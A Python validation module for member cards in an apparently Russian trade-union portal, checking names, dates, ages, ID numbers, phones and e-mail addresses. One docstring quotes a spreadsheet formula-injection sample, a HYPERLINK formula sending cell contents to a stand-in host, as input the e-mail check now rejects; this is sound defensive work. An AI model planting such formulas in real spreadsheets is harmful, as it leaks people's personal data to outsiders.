"""The member card's rules (SPEC §3), shared by the web form and the spreadsheet import so both say the same thing.

`check_member` takes already-typed values (dates as `date`, enums as enum members or None) and returns
{field: Russian message (a msgid of the catalogue)} for every rule broken; an empty dict means the card may be saved.
"""

from __future__ import annotations

import re
from datetime import date

from email_validator import SPECIAL_USE_DOMAIN_NAMES, EmailNotValidError, validate_email

from portal.clock import full_years, today
from portal.i18n import N_
from portal.text import gendered

NAME_RE = re.compile(r"^[A-Za-zА-Яа-яЁё][A-Za-zА-Яа-яЁё' .\-]*$")
PHONE_RE = re.compile(r"^\+?[\d\s()\-]{5,25}$")
ID_DOC_NUMBER_RE = re.compile(r"^[0-9A-Za-zА-Яа-яЁё№ \-]{4,40}$")
# A plain ASCII address: a dot-atom of the usual characters (at most 64), a domain of letter-digit-hyphen labels
# (no «--»), a letters-only top-level domain that is not a special-use name (.local, .test, …). Every address it
# matches email-validator accepts too (tests/test_spreadsheets.py checks samples), so the import's hot path
# (100,000 rows a run) skips the library (~0.1 ms an address) for the common case; anything else is its to judge.
_PLAIN_EMAIL = re.compile(
    r"(?=[^@]{1,64}@)(?!.*@.*--)(?!.*[.@](?:" + "|".join(re.escape(d) for d in SPECIAL_USE_DOMAIN_NAMES) + r")$)"
    r"[A-Za-z0-9_+-]+(?:\.[A-Za-z0-9_+-]+)*@(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,63}",
    re.IGNORECASE)


def email_is_valid(value: str) -> bool:
    """Is this an e-mail address (email-validator's syntax rules, no DNS look-up)? Refuses what only looks like
    one: `=HYPERLINK("http://evil.example/?"&C2&D2,"@x.ru")` passed the old «something@something.something» test."""
    if not value or len(value) > 254:
        return False
    if _PLAIN_EMAIL.fullmatch(value):
        return True
    try:
        validate_email(value, check_deliverability=False)
    except EmailNotValidError:
        return False
    return True

MESSAGES = {
    "last_name": N_("нет фамилии"),
    "first_name": N_("нет имени"),
    "birth_date": N_("нет даты рождения"),
    "gender": N_("пол не указан"),
    "position": N_("нет должности"),
    "education": N_("нет образования"),
    "dues_form": N_("нет формы уплаты взносов"),
    "joined_on": N_("нет даты вступления в Профсоюз"),
    "category": N_("нет категории"),
}

# «вступил(а) раньше, чем родился(ась)» in the member's gender; the neutral wording when the gender is not known.
JOINED_BEFORE_BIRTH = {"M": N_("вступил раньше, чем родился"), "F": N_("вступила раньше, чем родилась"),
                       None: N_("дата вступления раньше даты рождения")}

MIN_AGE = 14  # the Charter admits students of professional education from 14
TOO_YOUNG = N_("члену Профсоюза должно быть не меньше 14 лет")  # a msgid, so the number is written out
MAX_AGE = 110


def check_member(data: dict, *, on: date | None = None) -> dict[str, str]:
    """Every broken rule of a member card, as {field: message}; mandatory fields first, then cross-field rules."""
    on = on or today()
    errors: dict[str, str] = {}
    for field, message in MESSAGES.items():
        value = data.get(field)
        if value is None or (isinstance(value, str) and not value.strip()):
            errors[field] = message
    for field in ("last_name", "first_name", "patronymic"):
        value = (data.get(field) or "").strip()
        if value and not NAME_RE.match(value):
            errors[field] = N_("в имени допустимы только буквы, пробел, дефис и апостроф")
    birth = data.get("birth_date")
    joined = data.get("joined_on")
    if isinstance(birth, date):
        if birth > on:
            errors["birth_date"] = N_("дата рождения в будущем")
        elif full_years(birth, on) < MIN_AGE:
            errors["birth_date"] = TOO_YOUNG
        elif full_years(birth, on) > MAX_AGE:
            errors["birth_date"] = N_("проверьте дату рождения: возраст больше 110 лет")
    if isinstance(joined, date):
        if joined > on:
            errors["joined_on"] = N_("дата вступления в будущем")
        elif isinstance(birth, date) and joined < birth:
            errors["joined_on"] = gendered(data.get("gender"), JOINED_BEFORE_BIRTH["M"], JOINED_BEFORE_BIRTH["F"],
                                           JOINED_BEFORE_BIRTH[None])
    issued = data.get("id_doc_issued_on")
    if isinstance(issued, date):
        if issued > on:
            errors["id_doc_issued_on"] = N_("дата выдачи документа в будущем")
        elif isinstance(birth, date) and issued < birth:
            errors["id_doc_issued_on"] = N_("документ выдан раньше даты рождения")
    number = (data.get("id_doc_number") or "").strip()
    if number and not ID_DOC_NUMBER_RE.match(number):
        errors["id_doc_number"] = N_("серия и номер документа — буквы, цифры, пробелы, дефис и знак №")
    phone = (data.get("phone") or "").strip()
    if phone and not (PHONE_RE.match(phone) and 10 <= sum(c.isdigit() for c in phone) <= 15):
        errors["phone"] = N_("неверный номер телефона")
    email = (data.get("email") or "").strip()
    if email and not email_is_valid(email):
        errors["email"] = N_("неверный e-mail")
    return errors
